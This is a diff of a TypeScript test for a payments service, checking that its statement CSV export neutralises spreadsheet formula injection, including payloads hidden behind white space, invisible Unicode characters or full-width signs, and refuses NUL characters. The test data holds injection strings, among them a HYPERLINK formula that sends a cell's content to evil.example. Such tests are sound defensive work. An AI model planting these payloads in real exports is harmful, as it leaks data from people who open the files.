@@ -2,7 +2,8 @@
 // @tier: quick  (npm run test:quick: in-process, on LevelDB)
 // Issue 23, "Security" items 1-4, 6 and 7, on the real service (real build, real ledger, the MCP
 // and A2A endpoints mounted as `lds serve` mounts them) over real HTTP:
-//   1. the statement CSV neutralises formula-like text cells and bidi controls, numbers stay numbers;
+//   1. the statement CSV neutralises formula-like text cells (also behind white space, invisible
+//      characters or full-width forms; issue 34) and removes invisible characters, numbers stay numbers;
 //   2. a balance token in an MCP tool argument or an A2A data part takes from the token's bucket;
 //   3. A2A tasks/get shows a paid draw only to the token that paid for it;
 //   4. anonymous quote tasks cannot push a paid task out of the task store;
@@ -16,6 +17,7 @@ import { randomBytes, randomUUID } from 'node:crypto';
 import { loadConfig, ConfigError } from '../payments/config.ts';
 import { DEFAULT_MAX_ADJUSTMENT_CENTS, TOPUP_MAXIMUM_CENTS } from '../contract/limits.ts';
 import { hashToken } from '../payments/tokens.ts';
+import { csvCell } from '../payments/http/statement-csv.ts';
 import { balanceOf, bearer, mcpClient, postJson, rawPost, refsOf, startAgentService, topUp, type AgentService } from './helpers/agents.ts';
 
 const PRODUCT = 'svc-agriculture-eu';
@@ -64,10 +66,14 @@ function parseCsv(text: string): string[][] {
 
 // ---------------------------------------------------------------- 1. statement CSV
 
-test('1. statement CSV: formula-like text cells get a leading quote, bidi controls are stripped, amounts stay numbers', async () => {
+test('1. statement CSV: formula-like text cells get a leading quote (also behind white space or invisible characters), invisible characters are removed, amounts stay numbers', async () => {
   const token = await freshToken();
   const id = hashToken(token); // the balance id
   const reasons = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', '+1+2', '-3+4', '@SUM(A1:A2)', '\tcmd', 'plain \u202Eevil\u2066 text\u2069'];
+  // Issue 34: white space before the formula, or an invisible character (LRM, RLM, ALM, a BOM, a
+  // zero-width space, NUL) in front of it, or a full-width ＝: each starts a formula all the same.
+  const hidden = [' =1+1', '\n=1+1', '\u00A0@SUM(1)', '\u200E=1+2', '\u200F+3', '\u061C-4', '\uFEFF=5', '\u200B@6', '\uFF1DHYPERLINK("x")'];
+  reasons.push(...hidden);
   for (const [i, reason] of reasons.entries()) {
     const res = await admin('adjustments', { balance_id: id, direction: 'credit', amount: '0.10', reason }, `csv-${i}-${id}`);
     assert.is(res.status, 201, await res.text());
@@ -83,11 +89,24 @@ test('1. statement CSV: formula-like text cells get a leading quote, bidi contro
   assert.is(reasonsOut.length, reasons.length + 1);
   for (const r of reasonsOut) {
     assert.not.match(r, /^[=+\-@\t\r]/, `a text cell starts like a formula: ${JSON.stringify(r)}`);
-    assert.not.match(r, /[\u202A-\u202E\u2066-\u2069]/, `a bidi control in ${JSON.stringify(r)}`);
+    assert.not.match(r, /\p{Cf}|[\0-\x08\x0B\x0C\x0E-\x1F]/u, `an invisible character in ${JSON.stringify(r)}`);
+    // What a spreadsheet evaluates: the cell without its leading white space, full-width forms folded.
+    assert.not.match(r.trimStart().normalize('NFKC'), /^[=+\-@]/, `a formula after white space: ${JSON.stringify(r)}`);
   }
+  for (const [i, out] of ["' =1+1", "'\n=1+1", "'\u00A0@SUM(1)", "'=1+2", "'+3", "'-4", "'=5", "'@6", "'\uFF1DHYPERLINK(\"x\")"].entries())
+    assert.ok(reasonsOut.includes(out), `${JSON.stringify(hidden[i])} should read ${JSON.stringify(out)}: ${JSON.stringify(reasonsOut)}`);
   // Neutralised, not lost: the apostrophe prefix keeps the text as sent.
   for (const reason of reasons.slice(0, 5)) assert.ok(reasonsOut.includes(`'${reason}`), `${JSON.stringify(reason)} missing from ${JSON.stringify(reasonsOut)}`);
   assert.ok(reasonsOut.includes('plain evil text'));
+  // NUL: a reason holding a control character is refused (PostgreSQL cannot store NUL), naming
+  // it; a cell that holds one anyway (a reason stored before) loses it.
+  const nul = await admin('adjustments', { balance_id: id, direction: 'credit', amount: '0.10', reason: '\u0000=7' }, `csv-nul-${id}`);
+  const refusal = (await nul.json()) as any;
+  assert.is(nul.status, 400, JSON.stringify(refusal));
+  assert.is(refusal.field, 'reason');
+  assert.match(refusal.detail, /control character U\+0000 at character 1/);
+  assert.is(csvCell('\u0000=7'), "'=7");
+  assert.is(csvCell('a\u0000b\u0007c'), 'abc');
   // Amounts are numbers, the debit negative and unprefixed.
   for (const r of rows) {
     assert.match(r[col('amount')], /^-?[0-9]+\.[0-9]{2}$/);
